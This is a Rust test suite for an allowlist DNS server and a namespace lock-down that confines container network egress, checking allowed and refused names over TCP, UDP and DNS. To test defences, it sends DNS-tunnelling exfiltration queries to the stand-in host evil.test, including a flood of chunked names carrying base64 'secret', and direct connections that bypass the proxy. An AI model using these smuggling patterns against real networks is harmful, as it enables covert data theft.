//! The allowlist DNS server (`LISTEN=dns;to=...`), asked by `dig` as any
//! program in a container would, with a real DNS server behind it
//! (tests/dns_server.py, which logs every query it gets: what it never
//! sees, nobody asked). Then the Feature's lock-down (wasiter-lockdown)
//! in a network namespace of the test's own: clients that know nothing of
//! the proxy, running as another user, reach the allowed names and nothing
//! else, by TCP, UDP or DNS, over IPv4 and IPv6.

use super::*;
use std::net::UdpSocket;

/// `dig` at `server` (`IP:PORT`, or an IP for port 53), with `args`: its whole output.
fn dig(server: &str, args: &[&str]) -> String {
    dig_as(None, server, args)
}

/// The same, as user `as_user` (a uid) when given.
fn dig_as(as_user: Option<u32>, server: &str, args: &[&str]) -> String {
    let (ip, port) = match server.rsplit_once(':').filter(|(ip, _)| !ip.contains(':') || ip.starts_with('[')) {
        Some((ip, port)) => (ip.trim_matches(['[', ']']).to_string(), port.to_string()),
        None => (server.to_string(), "53".to_string()),
    };
    let mut cmd = as_user_command(as_user, "dig");
    cmd.args([format!("@{ip}"), "-p".into(), port, "+time=3".into(), "+tries=1".into()]).args(args);
    let out = cmd.output().expect("dig (Debian's dnsutils; scripts/setup --peers installs it)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `program`, run as uid `as_user` (its group the same number) when given.
fn as_user_command(as_user: Option<u32>, program: &str) -> Command {
    match as_user {
        None => Command::new(program),
        Some(uid) => {
            let mut c = Command::new("setpriv");
            c.args([format!("--reuid={uid}"), format!("--regid={uid}"), "--clear-groups".into(), program.into()]);
            c
        }
    }
}

fn status(dig_output: &str) -> &str {
    dig_output.split("status: ").nth(1).and_then(|s| s.split(',').next()).unwrap_or("no answer")
}

/// The addresses in an answer section.
fn answers(dig_output: &str) -> Vec<String> {
    dig_output
        .lines()
        .filter(|l| !l.starts_with(';'))
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() == 5 && (f[3] == "A" || f[3] == "AAAA")).then(|| f[4].to_string())
        })
        .collect()
}

pub fn the_dns_route_answers_only_allowed_names(rt: Runtime) {
    let dns = DnsServer::start(
        &[("api.allowed.test", "93.184.216.34,2606:2800:220:1::1"), ("inside.allowed.test", "10.1.2.3"), ("evil.test", "93.184.216.35")],
        &[],
        &[],
    );
    let routes = ["127.0.0.1:0=dns;to=*.allowed.test", "[::1]:0=dns;to=*.allowed.test"];
    let (mut p, at) = Proxy::start_routes(rt, 2, &[], &["--route", routes[0], "--route", routes[1], "--resolver", &dns.addr()]);
    let (v4, v6) = (at[0].to_string(), at[1].to_string());
    // An allowed name: its addresses, over UDP and TCP, both families.
    let a = dig(&v4, &["api.allowed.test", "A"]);
    assert_eq!((status(&a), answers(&a)), ("NOERROR", vec!["93.184.216.34".to_string()]), "{a}");
    let aaaa = dig(&v6, &["+tcp", "api.allowed.test", "AAAA"]);
    assert_eq!((status(&aaaa), answers(&aaaa)), ("NOERROR", vec!["2606:2800:220:1::1".to_string()]), "{aaaa}");
    // Another name: REFUSED at once, with the reason, and never asked upstream.
    for (server, name) in [(&v4, "evil.test"), (&v6, "data-to-smuggle.evil.test"), (&v4, "allowed.test.evil.test")] {
        let out = dig(server, &[name, "A"]);
        assert_eq!(status(&out), "REFUSED", "{name}: {out}");
        assert!(out.contains("EDE: 15 (Blocked)") && out.contains("is not in to="), "{name}: the refusal says why: {out}");
    }
    let tcp = dig(&v4, &["+tcp", "evil.test", "AAAA"]);
    assert_eq!(status(&tcp), "REFUSED", "{tcp}");
    // An allowed name that leads inside: refused as the proxy would refuse the connect.
    let inside = dig(&v4, &["inside.allowed.test", "A"]);
    assert!(status(&inside) == "REFUSED" && inside.contains("rule address"), "{inside}");
    // Other types of an allowed name: empty, and not fetched.
    for t in ["TXT", "HTTPS", "MX"] {
        let out = dig(&v4, &["api.allowed.test", t]);
        assert_eq!((status(&out), answers(&out).len()), ("NOERROR", 0), "{t}: {out}");
    }
    // Over TCP: three questions in one write, then the client's FIN; three
    // answers come back (in any order, each with its id), then the close.
    let mut c = TcpStream::connect(at[0]).unwrap();
    let mut framed = Vec::new();
    for (id, name) in [(1u16, "api.allowed.test"), (2, "evil.test"), (3, "api.allowed.test")] {
        let q = query(id, name);
        framed.extend_from_slice(&(q.len() as u16).to_be_bytes());
        framed.extend_from_slice(&q);
    }
    c.write_all(&framed).unwrap();
    c.shutdown(Shutdown::Write).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut all = Vec::new();
    c.read_to_end(&mut all).expect("the server answers, then closes");
    let mut rcodes = Vec::new();
    let mut rest = all.as_slice();
    while let [hi, lo, tail @ ..] = rest {
        let len = u16::from_be_bytes([*hi, *lo]) as usize;
        rcodes.push((u16::from_be_bytes([tail[0], tail[1]]), tail[3] & 0x0f));
        rest = &tail[len..];
    }
    rcodes.sort();
    assert_eq!(rcodes, vec![(1, 0), (2, 5), (3, 0)], "NOERROR, REFUSED, NOERROR by id");
    // What is not a query gets nothing, and changes nothing.
    let raw = UdpSocket::bind("127.0.0.1:0").unwrap();
    raw.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    raw.send_to(b"\x12\x34\x81\x80\x00\x00\x00\x00\x00\x00\x00\x00", at[0]).unwrap(); // a reply: never answered
    raw.send_to(b"\xff", at[0]).unwrap(); // too short to be anything
    let mut buf = [0u8; 512];
    assert!(raw.recv_from(&mut buf).is_err(), "neither a reply nor a byte gets an answer");
    let bad = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07trunc"; // a question cut short
    raw.send_to(bad, at[0]).unwrap();
    let (n, _) = raw.recv_from(&mut buf).expect("a broken question gets FORMERR");
    assert_eq!((n, &buf[..2], buf[3] & 0x0f), (12, &b"\x12\x34"[..], 1), "FORMERR");
    // A flood of names to smuggle: every one refused, none asked upstream,
    // the memory flat.
    let before = p.rss_kib();
    let flood = UdpSocket::bind("127.0.0.1:0").unwrap();
    flood.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut refused = 0;
    for batch in 0..40u16 {
        // Fifty at a time, then their answers, so that no socket buffer drops any.
        for i in batch * 50..batch * 50 + 50 {
            flood.send_to(&query(i, &format!("chunk{i:05}-c2VjcmV0.evil.test")), at[0]).unwrap();
        }
        for _ in 0..50 {
            let (n, _) = flood.recv_from(&mut buf).expect("every question is answered");
            refused += (n >= 12 && buf[3] & 0x0f == 5) as u32;
        }
    }
    assert_eq!(refused, 2000, "every name refused");
    let grew = p.rss_kib().saturating_sub(before);
    assert!(grew < 4096, "2000 refused names cost {grew} KiB: the server keeps nothing for them");
    let upstream = dns.queries();
    assert!(upstream.iter().all(|q| !q.contains("evil.test") && !q.contains(" TXT") && !q.contains(" HTTPS") && !q.contains(" MX")), "asked upstream: {upstream:?}");
    // Every question is logged with its decision.
    let line = record(&p.wait_for_log("evil.test's refusal", |l| l.contains(" dns ") && l.contains("name=evil.test ")));
    assert_eq!((line["answer"].as_str(), line["rule"].as_str()), ("REFUSED", "not-listed"));
    p.assert_alive();
}

pub fn a_dns_route_follows_the_routes_file(rt: Runtime) {
    let dns = DnsServer::start(&[("a.allowed.test", "93.184.216.34"), ("b.allowed.test", "93.184.216.35")], &[], &[]);
    let (p1, p2) = (free_port(), free_port());
    let dir = TempDir::new("dns-reload");
    let file = dir.path().join("routes");
    let write = |routes: &[String]| {
        let tmp = file.with_extension("new");
        std::fs::write(&tmp, routes.join("\n") + "\n").unwrap();
        std::fs::rename(&tmp, &file).unwrap();
    };
    let first = format!("127.0.0.1:{p1}=dns;to=a.allowed.test");
    write(&[first]);
    let args = ["--routes-file", file.to_str().unwrap(), "--reload-interval", "100ms", "--resolver", dns.addr().leak()];
    let (mut p, _) = Proxy::start_routes_in(rt, Some(dir.path()), 1, &[], &args);
    let v1 = format!("127.0.0.1:{p1}");
    assert_eq!(status(&dig(&v1, &["a.allowed.test"])), "NOERROR");
    assert_eq!(status(&dig(&v1, &["b.allowed.test"])), "REFUSED");
    // The list grows on the same address (its sockets stay), and a second
    // DNS route appears on another.
    write(&[format!("127.0.0.1:{p1}=dns;to=a.allowed.test,b.allowed.test"), format!("127.0.0.1:{p2}=dns;to=b.allowed.test")]);
    p.wait_for_log("the reload", |l| l.contains(" reload ") && l.contains("changed=127.0.0.1:"));
    let b = dig(&v1, &["b.allowed.test"]);
    assert_eq!((status(&b), answers(&b)), ("NOERROR", vec!["93.184.216.35".to_string()]), "{b}");
    let v2 = format!("127.0.0.1:{p2}");
    assert_eq!(status(&dig(&v2, &["+tcp", "b.allowed.test"])), "NOERROR");
    assert_eq!(status(&dig(&v2, &["a.allowed.test"])), "REFUSED");
    // A DNS address cannot turn into another kind of route in place.
    write(&[format!("127.0.0.1:{p1}=forward;to=a.allowed.test"), format!("127.0.0.1:{p2}=dns;to=b.allowed.test")]);
    p.wait_for_log("the refused reload", |l| l.contains("reload-failed") && l.contains("between a DNS route and another kind"));
    assert_eq!(status(&dig(&v1, &["b.allowed.test"])), "NOERROR", "the routes that ran still run");
    // Removed: its address answers no more.
    write(&[format!("127.0.0.1:{p2}=dns;to=b.allowed.test")]);
    p.wait_for_log("the removal", |l| l.contains(" reload ") && l.contains("removed=127.0.0.1:"));
    assert_eq!(status(&dig(&v1, &["+tries=1", "+time=1", "a.allowed.test"])), "no answer", "the UDP socket is closed with the listener");
    p.assert_alive();
}

/// A query for `name`, type A, with this id.
fn query(id: u16, name: &str) -> Vec<u8> {
    let mut q = id.to_be_bytes().to_vec();
    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

fn ip(args: &str) {
    let ok = Command::new("ip").args(args.split(' ')).status().expect("ip (iproute2)").success();
    assert!(ok, "ip {args}");
}

fn lockdown(args: &[&str], env: &[(&str, String)]) -> std::process::Output {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("devcontainer/features/wasiter-egress/wasiter-lockdown");
    let mut c = Command::new(script);
    c.args(args).env("WASITER_LOCKDOWN_CONF", "/nonexistent");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("devcontainer/features/wasiter-egress/wasiter-lockdown runs")
}

/// How many packets the lock-down's drop counter has counted.
fn dropped() -> u64 {
    let out = Command::new("nft").args(["list", "chain", "inet", "wasiter_lockdown", "filter_out"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    text.split("packets ").nth(1).and_then(|s| s.split_whitespace().next()).and_then(|n| n.parse().ok()).expect("the drop counter")
}

pub fn a_locked_namespace_leaves_no_way_around_the_list(rt: Runtime) {
    if !sealed(rt, "a_locked_namespace_leaves_no_way_around_the_list") {
        return;
    }
    // A network namespace of this test's own: loopback, and a veth pair
    // whose far end answers nothing (a default route for the addresses a
    // process may try; no packet leaves the namespace).
    ip("link add wt0 type veth peer name wt1");
    ip("link set wt0 up");
    ip("link set wt1 up");
    ip("addr add 192.0.2.1/24 dev wt0");
    ip("route add default via 192.0.2.2 dev wt0");
    ip("-6 addr add 2001:db8:1::1/64 dev wt0 nodad");
    ip("-6 route add default via 2001:db8:1::2 dev wt0");
    // The web the container wants: a TLS server on 443 and a plain one on
    // 80, which the lock-down reaches only through wasiter.
    let certs = Certs::new(&["web.test", "evil.test"]);
    let (cert, key) = certs.leaf("web.test");
    let tls = nginx_on(443, Some((&cert, &key)), "tls, locked");
    let web = nginx_on(80, None, "plain, locked");
    let dns = DnsServer::start(&[("web.test", "127.0.0.1"), ("evil.test", "127.0.0.1")], &[], &[]);
    // The Feature's routes and rules, with this test's ports; the proxy
    // runs as root here (uid 0), the clients as nobody.
    let ports = [free_port(), free_port(), free_port()];
    let env = [
        ("PROXY_UID", "0".to_string()),
        ("HTTP_PORT", ports[0].to_string()),
        ("HTTPS_PORT", ports[1].to_string()),
        ("DNS_PORT", ports[2].to_string()),
        ("POLICY", "to=web.test;to-net=127.0.0.0/8".to_string()),
    ];
    let routes = String::from_utf8(lockdown(&["routes"], &env).stdout).unwrap();
    let mut args = vec!["--resolver".to_string(), dns.addr()];
    for r in routes.lines() {
        args.extend(["--route".to_string(), r.to_string()]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (mut p, _) = Proxy::start_routes(rt, 6, &[], &args);
    let rules = lockdown(&["rules"], &env);
    assert!(String::from_utf8_lossy(&rules.stdout).contains("policy drop"), "the rule set prints for review");
    let applied = lockdown(&["apply"], &env);
    assert!(applied.status.success(), "{}", String::from_utf8_lossy(&applied.stderr));
    let nobody = Some(65534);
    let ca = certs.ca();
    let curl_as = |args: &[&str]| {
        let out = as_user_command(nobody, "curl").args(["-sS", "--max-time", "10", "--connect-timeout", "2"]).args(args).output().unwrap();
        (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    // DNS: to any server the process names, whatever its family: the
    // allowlist DNS server answers.
    for server in ["198.51.100.53", "2001:db8::53", "127.0.0.11"] {
        let ok = dig_as(nobody, server, &["web.test", "A"]);
        assert_eq!((status(&ok), answers(&ok)), ("NOERROR", vec!["127.0.0.1".to_string()]), "{server}: {ok}");
        let no = dig_as(nobody, server, &["secret-in-a-name.evil.test", "A"]);
        assert_eq!(status(&no), "REFUSED", "{server}: {no}");
        let tcp = dig_as(nobody, server, &["+tcp", "evil.test", "TXT"]);
        assert_eq!(status(&tcp), "REFUSED", "{server} over TCP: {tcp}");
    }
    // The web, to any address the process dials: by the name it asks for.
    for addr in ["198.51.100.80", "[2001:db8::80]"] {
        let (code, body, err) = curl_as(&["--resolve", &format!("web.test:443:{addr}"), "--cacert", ca.to_str().unwrap(), "https://web.test/"]);
        assert_eq!((code, body.as_str()), (0, "tls, locked\n"), "{addr}: {err}");
        let (code, body, err) = curl_as(&["--resolve", &format!("web.test:80:{addr}"), "http://web.test/"]);
        assert_eq!((code, body.as_str()), (0, "plain, locked\n"), "{addr}: {err}");
        let (code, _, err) = curl_as(&["--resolve", &format!("evil.test:443:{addr}"), "-k", "https://evil.test/"]);
        assert_ne!(code, 0, "{addr}: evil.test over TLS: {err}");
        let (_, body, _) = curl_as(&["--resolve", &format!("evil.test:80:{addr}"), "-w", "%{http_code}", "http://evil.test/"]);
        assert!(body.ends_with("403") && body.contains("evil.test is not in to="), "{addr}: {body}");
    }
    // An address with no name: the ClientHello names nothing, so it is refused.
    let (code, body, _) = curl_as(&["--noproxy", "*", "-k", "https://198.51.100.80/"]);
    assert_ne!(code, 0, "an address with no name is refused: {body}");
    // Anything else, TCP or UDP, IPv4 or IPv6: dropped, and counted.
    let before = dropped();
    for target in ["198.51.100.7:9999", "[2001:db8::7]:9999"] {
        let (code, _, err) = curl_as(&[&format!("http://{target}/")]);
        assert_eq!(code, 28, "{target}: the connect times out (dropped, not refused): {err}");
    }
    for target in ["198.51.100.7", "2001:db8::7"] {
        let family = if target.contains(':') { "AF_INET6" } else { "AF_INET" };
        // A dropped datagram fails its send with EPERM, as the kernel says
        // for a packet its own firewall drops.
        let send = format!(
            "import socket\ns = socket.socket(socket.{family}, socket.SOCK_DGRAM)\nfor port in (9999, 853):\n    try:\n        s.sendto(b'data', ('{target}', port)); print('sent')\n    except PermissionError:\n        print('dropped')"
        );
        let out = as_user_command(nobody, "/usr/bin/python3").args(["-c", &send]).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), "dropped\ndropped\n", "{target}: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(dropped() >= before + 6, "two TCP connects and four datagrams dropped: {} -> {}", before, dropped());
    // Nothing the list does not name was ever asked upstream.
    let upstream = dns.queries();
    assert!(upstream.iter().all(|q| !q.contains("evil.test")), "asked upstream: {upstream:?}");
    drop((tls, web));
    let removed = lockdown(&["remove"], &env);
    assert!(removed.status.success());
    assert_eq!(lockdown(&["status"], &env).status.code(), Some(3), "removed cleanly");
    p.assert_alive();
}

/// A process holding a network namespace of its own (the peer outside the
/// locked one), killed when the test ends.
struct PeerNamespace(std::process::Child);

impl PeerNamespace {
    fn start() -> PeerNamespace {
        let child = Command::new("unshare").args(["-n", "sleep", "600"]).spawn().expect("unshare (util-linux)");
        let ours = std::fs::read_link("/proc/self/ns/net").unwrap();
        let theirs = format!("/proc/{}/ns/net", child.id());
        eventually("the peer's namespace", || std::fs::read_link(&theirs).is_ok_and(|ns| ns != ours));
        PeerNamespace(child)
    }

    /// `program` with `args`, run inside the peer's namespace.
    fn command(&self, program: &str, args: &[&str]) -> Command {
        let mut c = Command::new("nsenter");
        c.args(["-t", &self.0.id().to_string(), "-n", program]).args(args);
        c
    }
}

impl Drop for PeerNamespace {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

pub fn a_locked_namespace_lets_the_proxy_out_over_ipv4_and_ipv6(rt: Runtime) {
    if !sealed(rt, "a_locked_namespace_lets_the_proxy_out_over_ipv4_and_ipv6") {
        return;
    }
    // Two namespaces of this test's own, joined by a veth pair: this one
    // (to be locked) and the peer's, which holds a server on 8080 over IPv4
    // and IPv6. Documentation addresses, inside the two namespaces only.
    let peer = PeerNamespace::start();
    let in_peer = |args: &str| {
        let ok = peer.command("ip", &args.split(' ').collect::<Vec<_>>()).status().unwrap().success();
        assert!(ok, "in the peer: ip {args}");
    };
    ip("link add wt0 type veth peer name wt1");
    ip(&format!("link set wt1 netns {}", peer.0.id()));
    ip("link set wt0 up");
    ip("addr add 192.0.2.1/24 dev wt0");
    ip("-6 addr add 2001:db8:1::1/64 dev wt0 nodad");
    for args in ["link set lo up", "link set wt1 up", "addr add 192.0.2.2/24 dev wt1", "-6 addr add 2001:db8:1::2/64 dev wt1 nodad"] {
        in_peer(args);
    }
    let server = "import socket\ns = socket.create_server(('::', 8080), family=socket.AF_INET6, dualstack_ipv6=True)\nwhile True:\n    c, _ = s.accept()\n    c.recv(4096)\n    c.sendall(b'HTTP/1.0 200 OK\\r\\nContent-Length: 12\\r\\n\\r\\nfrom a peer\\n')\n    c.close()";
    let _server = PeerNamespace(peer.command("python3", &["-c", server]).spawn().unwrap());
    // Nothing of the peer is reachable before its server listens (and no
    // neighbour discovery is blocked yet): wait for both families.
    for addr in ["192.0.2.2:8080", "[2001:db8:1::2]:8080"] {
        eventually(&format!("the peer's server at {addr}"), || std::net::TcpStream::connect_timeout(&addr.parse().unwrap(), Duration::from_millis(500)).is_ok());
    }
    // The lock-down, with a route to the peer over each family; flush the
    // neighbour cache the waits above filled, so the proxy must discover
    // its neighbour again under the rules.
    let ports = [free_port(), free_port(), free_port()];
    let env = [("PROXY_UID", "0".to_string()), ("HTTP_PORT", ports[0].to_string()), ("HTTPS_PORT", ports[1].to_string()), ("DNS_PORT", ports[2].to_string())];
    let routes = ["127.0.0.1:0=192.0.2.2:8080".to_string(), "127.0.0.1:0=[2001:db8:1::2]:8080".to_string()];
    let (mut p, at) = Proxy::start_routes(rt, 2, &[], &["--route", &routes[0], "--route", &routes[1], "--connect-timeout", "3s"]);
    let applied = lockdown(&["apply"], &env);
    assert!(applied.status.success(), "{}", String::from_utf8_lossy(&applied.stderr));
    ip("neigh flush dev wt0");
    in_peer("neigh flush dev wt1");
    let curl_as_nobody = |url: &str| {
        let out = as_user_command(Some(65534), "curl").args(["-sS", "--noproxy", "*", "--max-time", "8", "--connect-timeout", "2", url]).output().unwrap();
        (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    // Through the proxy: the peer, over IPv4 and over IPv6.
    for (at, family) in at.iter().zip(["IPv4", "IPv6"]) {
        let (code, body, err) = curl_as_nobody(&format!("http://{at}/"));
        assert_eq!((code, body.as_str()), (0, "from a peer\n"), "through the proxy over {family}: {err}\nlog:\n{}", p.log().join("\n"));
    }
    // Directly: nothing, over either family (dropped, so the connect times out).
    let before = dropped();
    for url in ["http://192.0.2.2:8080/", "http://[2001:db8:1::2]:8080/"] {
        let (code, _, err) = curl_as_nobody(url);
        assert_eq!(code, 28, "{url} directly: {err}");
    }
    assert!(dropped() > before, "the direct tries were dropped by the lock-down");
    assert!(lockdown(&["remove"], &env).status.success());
    p.assert_alive();
}
